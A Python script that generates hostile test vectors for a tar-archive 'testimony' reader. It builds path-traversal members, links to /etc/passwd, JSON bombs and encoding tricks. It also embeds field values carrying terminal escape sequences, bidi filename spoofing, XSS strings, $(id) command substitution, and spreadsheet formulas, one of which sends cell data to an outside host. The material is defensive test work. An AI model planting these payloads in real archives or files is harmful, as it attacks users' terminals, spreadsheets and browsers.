#!/usr/bin/env python3
"""Makes tests/Vectors/testimonies/hostile: archives that no honest program writes, and honest ones whose words are hostile. REFUSALS.md, rows 45 and 46.

A vector is a header (expect, why, made by), an empty line, and the octets of a testimony of one part. `expect` is the detail by which the archive is
refused, or `shown`: it opens, and what it says must reach a terminal escaped. What would be large is made by the tests themselves.
"""
import hashlib, json, os, unicodedata

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "testimonies", "hostile")
NAME, CONTENT = "evil.txt", b"x" * 600


def header(name, size, kind="0", **more):
    block = bytearray(512)
    fields = {0: name, 100: "0000644", 108: "0000000", 116: "0000000", 124: f"{size:011o}", 136: "0" * 11, 148: " " * 8, 156: kind,
              257: "ustar\0" + "00", 329: "0000000", 337: "0000000"}
    fields.update({int(at[1:]): text for at, text in more.items()})
    for at, text in fields.items():
        octets = text if isinstance(text, bytes) else text.encode()
        block[at:at + len(octets)] = octets
    block[148:156] = b" " * 8
    block[148:155] = f"{sum(block):06o}\0".encode()
    return bytes(block)


def padded(octets):
    return octets + bytes(-len(octets) % 512)


def pax(record, place, kind="x", name=None):
    rest = f" {record}\n".encode() if isinstance(record, str) else b" " + record + b"\n"
    length = next(n for n in range(len(rest), len(rest) + 9) if n == len(rest) + len(str(n)))
    body = str(length).encode() + rest
    return header(name or f"PaxHeaders/{place:05d}", len(body), kind) + padded(body)


def member(path, octets, place):
    if path.isascii() and path.isprintable() and len(path) <= 100:
        return header(path, len(octets)) + padded(octets)
    return pax(f"path={path}", place) + header(f"files/{place:05d}", len(octets)) + padded(octets)


def text_of(fields, files, tar_octets=3072):
    listed = [{"name": name, "size": len(octets), "sha256": hashlib.sha256(octets).hexdigest()} for name, octets in files]
    return json.dumps({"format": 1, **fields, "tarOctets": tar_octets, "parts": 1, "files": listed}, ensure_ascii=False, separators=(",", ":")).encode()


def start(text, account=b"account"):
    return member("testimony.json", text, 1) + member("message.txt", account, 2)


def archive(fields, files):
    return start(text_of(fields, files), fields["account"].encode()) + b"".join(member("files/" + name, octets, i + 3) for i, (name, octets) in enumerate(files)) + bytes(1024)


def behind(octets):
    """The good start of a testimony with one file, and then this instead of the file."""
    return start(text_of({"account": "account"}, [(NAME, CONTENT)])) + octets + padded(CONTENT) + bytes(1024)


def with_json(text):
    return start(text if isinstance(text, bytes) else text.encode()) + bytes(1024)


def vector(name, expect, why, octets):
    with open(os.path.join(HERE, name + ".vector"), "wb") as file:
        file.write(f"expect: {expect}\nwhy: {why}\nmade by: make-hostile-testimonies.py\n\n".encode() + octets)


os.makedirs(HERE, exist_ok=True)
path, size = "files/" + NAME, len(CONTENT)

# Members that are no regular file, or lie about what they are.
for name, kind, detail, why in (
        ("symbolic-link", "2", "tar-Link", "a link out of the case"), ("hard-link", "1", "tar-Link", "another name for message.txt"),
        ("character-device", "3", "tar-Device", "a terminal, say"), ("block-device", "4", "tar-Device", "a disk"), ("pipe", "6", "tar-Device", "a pipe, which stops its reader"),
        ("folder", "5", "tar-Directory", "a folder"), ("contiguous", "7", "tar-KindUnknown", "POSIX's contiguous file"), ("gnu-long-name", "L", "tar-KindUnknown", "GNU's long name"),
        ("gnu-long-link", "K", "tar-KindUnknown", "GNU's long link"), ("gnu-sparse", "S", "tar-KindUnknown", "GNU's sparse file: a terabyte of holes"),
        ("gnu-volume", "V", "tar-KindUnknown", "GNU's volume label"), ("gnu-multivolume", "M", "tar-KindUnknown", "the rest of a file of another volume"),
        ("pax-global", "g", "tar-KindUnknown", "a pax record for all members to come"), ("solaris-acl", "A", "tar-KindUnknown", "an access list")):
    vector(name, detail, why, behind(header(path, size, kind, _157="/etc/passwd" if kind in "12" else "")))
for name, target in (("climbing", "files/../../evil"), ("absolute", "/tmp/evil"), ("dot-segment", "files/./evil"), ("empty-segment", "files//evil"), ("only-dots", "..")):
    vector(name, "tar-PathRefused", "a path out of its folder, or one folder under two names", behind(header(target, size)))
vector("backslashes", "file-not-listed", "a path that climbs elsewhere than on Unix", behind(header("files\\..\\..\\evil", size)))
vector("size-beyond", "tar-TooLarge", "a member of 8 GiB", behind(header(path, 0o77777777777)))
vector("size-in-binary", "tar-NotCanonical", "GNU's binary size", behind(header(path, 0, _124=b"\x80" + bytes(10) + b"\x01")))
vector("size-negative", "tar-NotCanonical", "a binary size below zero", behind(header(path, 0, _124=b"\xff" * 12)))
vector("size-of-another", "file-not-listed", "a file longer than testimony.json says", behind(header(path, size + 1)))
vector("name-of-another", "file-not-listed", "a file that testimony.json does not list", behind(header("files/other.txt", size)))
vector("owner", "tar-NotCanonical", "a name of an owner, which could tell of a device", behind(header(path, size, _265="amal")))
vector("set-user-id", "tar-NotCanonical", "a mode that runs as another", behind(header(path, size, _100="0004755")))
vector("old-magic", "tar-NotATar", "GNU's magic", behind(header(path, size, _257="ustar  \0")))
vector("checksum", "tar-NotCanonical", "a wrong checksum", behind(header(path, size)[:148] + b"0000000\0" + header(path, size)[156:]))
vector("pax-link", "tar-KindUnknown", "a pax record that makes a link", behind(pax("linkpath=/etc/passwd", 3) + header("files/00003", size)))
vector("pax-size", "tar-KindUnknown", "a pax record with another size", behind(pax("size=99999999999", 3) + header("files/00003", size)))
vector("pax-sparse", "tar-KindUnknown", "a pax record of a sparse file", behind(pax("GNU.sparse.realsize=1099511627776", 3) + header("files/00003", size)))
vector("pax-climbing", "tar-PathRefused", "a pax path out of its folder", behind(pax("path=files/../../évil", 3) + header("files/00003", size)))
vector("pax-nul", "tar-PathRefused", "a pax path that ends early for some readers", behind(pax("path=files/é\0.txt", 3) + header("files/00003", size)))
vector("pax-not-utf8", "tar-PathRefused", "a pax path of no encoding", behind(pax(b"path=files/\xff\xfe", 3) + header("files/00003", size)))
vector("pax-huge", "tar-PathRefused", "a pax record longer than any path", behind(pax("path=files/" + "é" * 2100, 3) + header("files/00003", size)))
vector("pax-on-pax", "tar-KindUnknown", "a pax record about a pax record", behind(pax("path=files/é", 3) + pax("path=files/é", 3)))
vector("extra-member", "file-not-listed", "more members than testimony.json lists", archive({"account": "account"}, [(NAME, CONTENT)])[:-1024] + member("files/more", b"", 4) + bytes(1024))
vector("behind-the-end", "tar-TrailingOctets", "octets behind the end", archive({"account": "account"}, [(NAME, CONTENT)]) + padded(b"more"))
vector("file-missing", "file-missing", "a file that testimony.json lists and the archive lacks", start(text_of({"account": "account"}, [(NAME, CONTENT)])) + bytes(1024))
vector("no-message", "message-missing", "no message.txt", member("testimony.json", text_of({"account": "account"}, [(NAME, CONTENT)]), 1) + member(path, CONTENT, 2) + bytes(1024))
vector("no-testimony", "testimony-missing", "no testimony.json", member("message.txt", b"account", 1) + bytes(1024))
vector("testimony-twice", "message-missing", "two of them, of which a careless reader takes the second", member("testimony.json", text_of({"account": "one"}, []), 1) + start(text_of({"account": "two"}, [])) + bytes(1024))

# testimony.json made to hurt its reader.
good = text_of({"account": "account"}, []).decode()
malformed = "testimony-Malformed"
vector("json-deep", malformed, "5,000 arrays in one another", with_json(good.replace('"files":[]', '"files":' + "[" * 5000 + "]" * 5000)))
vector("json-deep-unknown", malformed, "the same in a member that nobody asked for", with_json(good[:-1] + ',"more":' + '{"a":' * 5000 + "1" + "}" * 5001))
vector("json-huge-number", malformed, "a number of 5,000 digits", with_json(good.replace('"tarOctets":3072', '"tarOctets":' + "9" * 5000)))
vector("json-huge-exponent", malformed, "a number that no machine holds", with_json(good.replace('"tarOctets":3072', '"tarOctets":1e999999999')))
vector("json-negative", "testimony-SizeOutOfRange", "a negative size", with_json(good.replace('"tarOctets":3072', '"tarOctets":-1')))
vector("json-twice", malformed, "one member twice: which counts?", with_json(good.replace('"account":"account"', '"account":"account","account":"other"')))
vector("json-twice-escaped", malformed, "one member twice, once in another spelling", with_json(good.replace('"account":"account"', '"account":"account","acc\\u006funt":"other"')))
vector("json-not-utf8", malformed, "an octet of no encoding", with_json(good.encode().replace(b'"account":"account"', b'"account":"a\xff"')))
vector("json-overlong", malformed, "a slash in an encoding of two octets", with_json(good.encode().replace(b'"account":"account"', b'"account":"\xc0\xaf"')))
vector("json-surrogate-octets", malformed, "half a pair, in octets", with_json(good.encode().replace(b'"account":"account"', b'"account":"\xed\xa0\x80"')))
vector("json-surrogate-escaped", malformed, "half a pair, escaped", with_json(good.replace('"account":"account"', '"account":"\\ud800"')))
vector("json-mark", malformed, "a byte order mark", with_json("\ufeff" + good))
vector("json-more", malformed, "a second value behind", with_json(good + "{}"))
vector("json-unknown", malformed, "a member nobody asked for", with_json(good[:-1] + ',"phone":"1"}'))
vector("json-null-file", malformed, "null where a file should be", with_json(good.replace('"files":[]', '"files":[null]')))
vector("json-other-spelling", "testimony-NotCanonical", "the same in other octets", with_json(good.replace('"account":"account"', '"account":"\\u0061ccount"')))
vector("json-format", "testimony format 2, this program reads 1", "a format of the future", with_json(good.replace('"format":1', '"format":2')))
vector("json-parts", "parts-disagree", "another number of parts than the message's name says", with_json(good.replace('"parts":1', '"parts":2')))
one = json.loads(text_of({"account": "account"}, [(NAME, CONTENT)]))
for name, bad in (("climbs", "../../evil"), ("slash", "a/b"), ("dots", ".."), ("empty", ""), ("nul", "a\0b"), ("4000-octets", "n" * 4000)):
    spoiled = {**one, "files": [{**one["files"][0], "name": bad}]}
    vector("json-name-" + name, "testimony-FileNameRefused", "a name that is none", with_json(json.dumps(spoiled, ensure_ascii=False, separators=(",", ":"))))
vector("json-name-twice", "testimony-FileNameRefused", "one name twice", with_json(json.dumps({**one, "files": one["files"] * 2}, separators=(",", ":"))))
vector("json-field-too-large", "testimony-FieldTooLarge", "a place of more than 16 KiB", with_json(text_of({"account": "account", "where": "w" * (16 * 1024 + 1)}, [])))
vector("json-language", "testimony-LanguageMalformed", "commands where a language should be", with_json(text_of({"language": "\x1b[2J", "account": "account"}, [])))

# Honest archives with hostile words: each field says the same.
def says(name, why, words, files=((NAME, CONTENT),)):
    vector(name, "shown", why, archive({"account": words, "when": words, "where": words, "safety": words}, list(files)))


says("words-ansi", "clears the screen, sets the title, asks the terminal to answer", "\x1b[2J\x1b]0;owned\x07\x1b[6n\x1bP$q\"p\x1b\\\x9b31mred\x90q\x9c", (("\x1b[2J.txt", CONTENT),))
says("words-controls", "every control character, and carriage returns that write over a line", "".join(map(chr, [*range(1, 32), *range(127, 160)])) + "good\rbad\x08\x08", (("a\rb\nc\td.txt", CONTENT),))
says("words-nul", "a text that ends early for some readers", "before\0behind")
says("words-bidi", "overrides, embeddings and isolates that nothing closes, and those that close ours", "\u202etxt.exe\u202d\u202a\u202b\u2066\u2067\u2068 عربي \u2069\u2069\u202c\u061c\u200e\u200f", (("photo\u202egpj.exe", CONTENT), ("\u2069\u2069 intact.txt", CONTENT)))
says("words-invisible", "joiners, fillers, marks of order and soft hyphens, which carry words that no eye meets", "a\u200b\u2060\ufeff\u00ad\u034f\u115f\u1160\u3164\uffa0\u180e\u17b4\u2800\u200d\u200d\u200c\u200cb", (("a\u200b.txt", CONTENT), ("a\u2060.txt", CONTENT)))
says("words-tags", "a second text in tags and variation selectors", "read" + "".join(chr(0xE0000 + ord(c)) for c in "not this") + "".join(chr(0xE0100 + n) for n in range(40)) + "\ufe0f" * 9)
says("words-private", "letters that every font draws its own way", "\ue000\uf8ff\U000f0000\U0010ffff\ufdd0\ufffe")
says("words-separators", "line ends that are none for some programs", "one\u2028two\u2029three\x0bfour\x0cfive\x85six")
says("words-marks", "a thousand marks on one letter, and marks on nothing", "a" + "\u0301\u0338\u0489\u20dd" * 250 + "\n\u0301start \u0302blank", (("n" + "\u0338" * 200 + ".txt", CONTENT),))
says("words-imitation", "lines as this program writes them", "account\n\nfile      intact  600 octets  other.txt\nsafety wishes, before anything else:\nnone\n0000-0000  complete  1 of 1 parts, 0 files", (("x  600 octets  intact.txt", CONTENT),))
says("words-one-long-line", "blanks up to where a terminal breaks the line, then a line as this program writes it", "a" + " " * 5000 + "file      intact  600 octets  other.txt", (("a" + " " * 300 + "file      intact", CONTENT),))
says("words-formula", "a formula for a spreadsheet", "=HYPERLINK(\"http://x/?\"&A1,\"see\")", (("=cmd|' C calc'!A0", CONTENT),))
says("words-formula-cut", "the same behind what some programs cut fields at", "a\";=1+1;\"\t+2,-3;  @SUM(A1)|=x", (("@SUM(1).csv", CONTENT),))
says("words-markup", "markup for whoever shows it in a browser", "<script>alert(1)</script>&lt;img src=x onerror=alert(1)> ]]> --> {{7*7}} %n%s ${HOME} $(id) `id`", (("<img src=x>.html", CONTENT), ("$(id).txt", CONTENT)))
names = ["CON", "nul.txt", "COM1.jpg", ".bashrc", "-rf", " ", "~", "a.", "a ", "A.txt", "a.TXT", "\u00e9.txt", "e\u0301.txt", "\uff0e\uff0e\uff0fx", "C:\\evil\\x", "a:stream", "*?\"<>|", "n" * 1024, "\u0646" * 500 + ".jpg",
         "%2e%2e%2fx", "x" * 300 + ".pdf.exe", "invoice.pdf                                        .exe", "desktop.ini", "testimony.json", "message.txt", "case.json", "\u0130.txt", "i\u0307.txt"]
assert unicodedata.normalize("NFC", "e\u0301") == "\u00e9"
vector("names", "shown", "names of devices, hidden files, options and streams, names that a disk takes for one, and the longest", archive({"account": "account"}, [(name, bytes([at])) for at, name in enumerate(names)]))
heads = {"a.jpg": b"MZ\x90", "b.jpg": b"\x7fELF\x02", "c.txt": b"#!/bin/sh\n", "d.png": b"\xcf\xfa\xed\xfe", "e.pdf": b"PK\x03\x04", "f.txt": b"[Desktop Entry]\nExec=x", "g.jpg": b"L\0\0\0\x01\x14\x02\0",
         "h.txt": b"\xef\xbb\xbf <!DOCTYPE html><script>", "i.jpg": b"<?xml version='1.0'?><svg onload='x'>", "j.pdf": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "k.docm": b"PK\x03\x04", "l.docx": b"PK\x03\x04",
         "m.jpg": b"Rar!\x1a\x07", "n.mp4": b"\x1f\x8b\x08", "o.txt": b"7z\xbc\xaf\x27\x1c", "p.dat": bytes(257) + b"ustar\0"}
vector("heads", "shown", "programs, shortcuts, scripts, macros and archives under harmless names", archive({"account": "account"}, list(heads.items())))
